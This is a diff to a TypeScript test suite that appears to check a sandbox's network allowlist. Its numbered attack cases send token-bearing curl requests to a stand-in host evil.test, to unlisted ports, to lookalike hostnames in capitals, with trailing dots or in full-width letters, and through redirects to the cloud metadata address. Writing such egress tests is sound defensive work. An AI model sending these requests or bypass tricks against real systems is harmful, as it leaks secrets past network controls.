@@ -3,7 +3,6 @@ import { curl, networkAttack } from "./network-attack.ts";
 
 const both = { runtimes: ["docker", "embedded"], sandboxes: ["allowing"] } as const;
 
-/** Whether something reached the attacker, whatever it was called. */
 const exactRules = "one canonical name is matched, resolved and dialled";
 
 /** Names and addresses that no rule allows, in every spelling, asked for as any program would. */
@@ -14,7 +13,7 @@ export const nameCases: readonly AttackCase[] = [
     attack: 34,
     title: "A host that no rule names, over HTTP and HTTPS",
     protection: "the allowlist",
-    program: ({ token }) => curl([`https://evil.test/${token}`, `http://evil.test/${token}`]),
+    program: ({ token, target }) => curl(target, [`https://evil.test/${token}`, `http://evil.test/${token}`]),
   }),
   networkAttack({
     ...both,
@@ -22,7 +21,7 @@ export const nameCases: readonly AttackCase[] = [
     attack: 35,
     title: "An allowed host on a port that no rule names",
     protection: "rules name ports; 80 and 443 where they do not",
-    program: ({ token }) => curl([`https://allowed.test:8443/${token}`, `http://allowed.test:8080/${token}`]),
+    program: ({ token, target }) => curl(target, [`https://allowed.test:8443/${token}`, `http://allowed.test:8080/${token}`]),
   }),
   networkAttack({
     ...both,
@@ -30,8 +29,8 @@ export const nameCases: readonly AttackCase[] = [
     attack: 36,
     title: "The apex of a wildcard, and names that begin or end like an allowed one",
     protection: exactRules,
-    program: ({ token }) =>
-      curl(
+    program: ({ token, target }) =>
+      curl(target, 
         ["second.test", "xallowed.test", "sub.allowed.test", "allowed.test.evil.test"].map(
           (host) => `http://${host}/${token}`,
         ),
@@ -43,8 +42,8 @@ export const nameCases: readonly AttackCase[] = [
     attack: 37,
     title: "An unlisted host in capitals, with a trailing dot, in full-width letters",
     protection: exactRules,
-    program: ({ token }) =>
-      curl(["EVIL.TEST", "evil.test.", "ｅvil.test", "evil。test"].map((host) => `http://${host}/${token}`)),
+    program: ({ token, target }) =>
+      curl(target, ["EVIL.TEST", "evil.test.", "ｅvil.test", "evil。test"].map((host) => `http://${host}/${token}`)),
   }),
   networkAttack({
     ...both,
@@ -52,8 +51,8 @@ export const nameCases: readonly AttackCase[] = [
     attack: 46,
     title: "A redirect from an allowed host to an unlisted one and to the metadata service",
     protection: "each request is judged for itself",
-    program: ({ token }) =>
-      curl(
+    program: ({ token, target }) =>
+      curl(target, 
         [`http://evil.test/${token}`, `http://169.254.169.254/${token}`].map(
           (to) => `http://allowed.test/?redirect=${encodeURIComponent(to)}`,
         ),
